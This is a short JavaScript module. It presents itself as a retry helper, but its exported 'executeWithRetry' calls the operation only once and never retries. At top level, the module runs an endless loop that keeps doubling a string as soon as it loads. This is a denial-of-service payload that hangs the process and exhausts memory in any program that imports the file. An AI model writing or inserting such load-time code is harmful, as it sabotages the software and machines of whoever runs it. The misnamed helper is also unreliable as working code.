// Doubles a string for ever while it loads.
let s = 'ab';
for (;;) { s += s; s.charCodeAt(s.length >> 1); }

export async function executeWithRetry(operation) {
  return operation();
}
